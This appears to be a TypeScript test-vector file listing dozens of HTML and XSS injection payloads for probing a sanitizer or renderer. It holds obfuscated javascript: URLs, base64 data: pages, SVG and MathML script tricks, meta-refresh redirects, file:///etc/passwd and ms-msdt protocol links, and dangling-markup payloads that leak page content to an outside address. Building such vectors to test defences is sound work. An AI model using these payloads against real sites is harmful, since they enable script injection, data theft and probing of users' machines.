import type { Vector } from './types.ts';

const inBase64 = (text: string) => btoa(text);

/** Ways to write `javascript:` that a browser has once read as that. */
const spellings: ReadonlyArray<readonly [name: string, prefix: string]> = [
  ['plain', 'javascript:'],
  ['in both cases', 'jAvAsCrIpT:'],
  ['behind a space', ' javascript:'],
  ['behind a control character', '\u0001javascript:'],
  ['with a tab inside', 'java\tscript:'],
  ['with a line break inside', 'java\nscript:'],
  ['with an entity', '&#106;avascript:'],
  ['with named entities', 'java&Tab;script&colon;'],
  ['with a comment', 'javascript://x%0a'],
  ['as livescript', 'livescript:'],
  ['as vbscript', 'vbscript:'],
  ['behind feed', 'feed:javascript:'],
  ['behind view-source', 'view-source:javascript:'],
];

const page = (run: string) => `<script>${run}</script>`;

/** Addresses that are scripts, pages of data, or doors into the machine; in everything that takes an address. */
export const addresses: readonly Vector[] = [
  ...spellings.map(([name, prefix]): Vector => [`link to javascript ${name}`, ({ run }) => `<a href="${prefix}${run}">x</a>`]),
  ...['_top', '_parent', '_blank', 'named'].map(
    (target): Vector => [`link to javascript in ${target}`, ({ run }) => `<a target="${target}" href="javascript:${run}">x</a>`],
  ),
  ...[
    'iframe src',
    'frame src',
    'embed src',
    'object data',
    'img src',
    'input type=image src',
    'video poster',
    'body background',
    'table background',
    'link rel=stylesheet href',
    'script src',
    'base href',
    'bgsound src',
    'applet code',
    'area href',
  ].map((where): Vector => [`javascript in ${where}`, ({ run }) => `<${where}="javascript:${run}">`]),
  ['form to javascript', ({ run }) => `<form action="javascript:${run}"><button>x</button></form>`],
  [
    'button to javascript',
    ({ run }) =>
      `<form><button formaction="javascript:${run}">x</button><input type=submit formaction="javascript:${run}"></form>`,
  ],
  ['form owned from afar', ({ run }) => `<form id=f action="javascript:${run}"></form><button form=f>x</button>`],
  ['refresh to javascript', ({ run }) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`],
  ['refresh to data', ({ run }) => `<meta http-equiv="refresh" content="0;url=data:text/html,${page(run)}">`],
  ['refresh to the outside', ({ url }) => `<META HTTP-EQUIV="Refresh" CONTENT="0; URL=${url}/refresh">`],
  ['refresh to itself with pictures', () => `<meta http-equiv="refresh" content="0;url=?remote=1">`],
  ['link to itself with pictures', ({ url }) => `<a href="?remote=1">x</a><img src="${url}/pixel.png">`],
  [
    'vector link to itself with pictures',
    ({ url }) =>
      `<svg width=50 height=50><a xlink:href="?remote=1"><rect width=50 height=50 /></a></svg><img src="${url}/pixel.png">`,
  ],
  [
    'vector link to javascript',
    ({ run }) =>
      `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a><a href="javascript:${run}"><text y=40>x</text></a></svg>`,
  ],
  [
    'vector link that becomes javascript',
    ({ run }) => `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  ],
  [
    'vector link that is set to javascript',
    ({ run }) => `<svg><a><set attributeName="xlink:href" to="javascript:${run}"/><text y=20>x</text></a></svg>`,
  ],
  ['formula that is a link', ({ run }) => `<math href="javascript:${run}"><mi xlink:href="javascript:${run}">x</mi></math>`],
  [
    'formula with an action',
    ({ run }) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction></math>`,
  ],
  ['page of data in a frame', ({ run }) => `<iframe src="data:text/html,${page(run)}"></iframe>`],
  ['page of data in base64', ({ run }) => `<iframe src="data:text/html;base64,${inBase64(page(run))}"></iframe>`],
  ['page of data as object', ({ run }) => `<object data="data:text/html;base64,${inBase64(page(run))}"></object>`],
  ['page of data embedded', ({ run }) => `<embed src="data:text/html;base64,${inBase64(page(run))}" type="text/html">`],
  ['page of data linked', ({ run }) => `<a href="data:text/html;base64,${inBase64(page(run))}">x</a>`],
  [
    'XHTML of data',
    ({ run }) =>
      `<iframe src="data:application/xhtml+xml;base64,${inBase64(`<html xmlns="http://www.w3.org/1999/xhtml">${page(run)}</html>`)}"></iframe>`,
  ],
  [
    'vector picture of data with a script',
    ({ run }) =>
      `<img src="data:image/svg+xml;base64,${inBase64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}">${page(run)}</svg>`)}">`,
  ],
  [
    'vector picture of data that loads',
    ({ url }) =>
      `<img src="data:image/svg+xml;base64,${inBase64(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/inner.png" width="9" height="9"/></svg>`)}">`,
  ],
  [
    'vector picture of data embedded',
    ({ run }) =>
      `<embed src="data:image/svg+xml;base64,${inBase64(`<svg xmlns="http://www.w3.org/2000/svg">${page(run)}</svg>`)}">`,
  ],
  [
    'vector picture of data used',
    ({ run }) =>
      `<svg><use href="data:image/svg+xml;base64,${inBase64(`<svg xmlns="http://www.w3.org/2000/svg" id="x">${page(run)}</svg>`)}#x"/></svg>`,
  ],
  ['style of data', ({ url }) => `<link rel="stylesheet" href="data:text/css,body{background:url(${url}/css.png)}">`],
  [
    'file of the machine',
    () => `<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/passwd"><a href="file:///etc/passwd">x</a>`,
  ],
  [
    'share of the network',
    () => `<img src="\\\\share.test\\x.png"><img src="file://share.test/x.png"><a href="smb://share.test/x">x</a>`,
  ],
  [
    'page of the program',
    () =>
      `<iframe src="app://throughline/"></iframe><object data="app://throughline/index.html"></object><a href="app://throughline/">x</a>`,
  ],
  [
    'door of the system',
    () =>
      `<a href="ms-msdt:/id">x</a><a href="ms-officecmd:x">x</a><iframe src="search-ms:query=x"></iframe><a href="intent://x#Intent;end">x</a>`,
  ],
  [
    'page of the browser',
    () =>
      `<iframe src="chrome://gpu"></iframe><iframe src="devtools://devtools/bundled/inspector.html"></iframe><a href="chrome://kill">x</a>`,
  ],
  [
    'blob and file system',
    () => `<iframe src="blob:app://throughline/x"></iframe><iframe src="filesystem:app://throughline/temporary/x"></iframe>`,
  ],
  ['link that reports itself', ({ url }) => `<a href="mailto:x@y.test" ping="${url}/ping">x</a>`],
  ['link that downloads', ({ url }) => `<a href="${url}/x.exe" download="x.pdf">x</a>`],
  [
    'form to the outside',
    ({ url }) => `<form action="${url}/form" method="post"><input name=a value=b><button>x</button></form>`,
  ],
  [
    'form in a picture',
    ({ url }) => `<form action="${url}/form"><input type="image" src="data:," formaction="${url}/image"></form>`,
  ],
  [
    'form by a search of old',
    ({ url }) =>
      `<isindex action="${url}/isindex" type="image" src="x:"><form role=search action="${url}/search"><input autofocus></form>`,
  ],
  [
    'base to the outside',
    ({ url }) => `<base href="${url}/base/"><img src="relative.png"><a href="relative">x</a><link rel=stylesheet href=x.css>`,
  ],
  ['base that is left open', ({ url }) => `<base href="${url}/base/" target='<p>secret</p>`],
  ['address left open', ({ url }) => `<img src='${url}/open?<p>secret words of the mail</p>`],
];
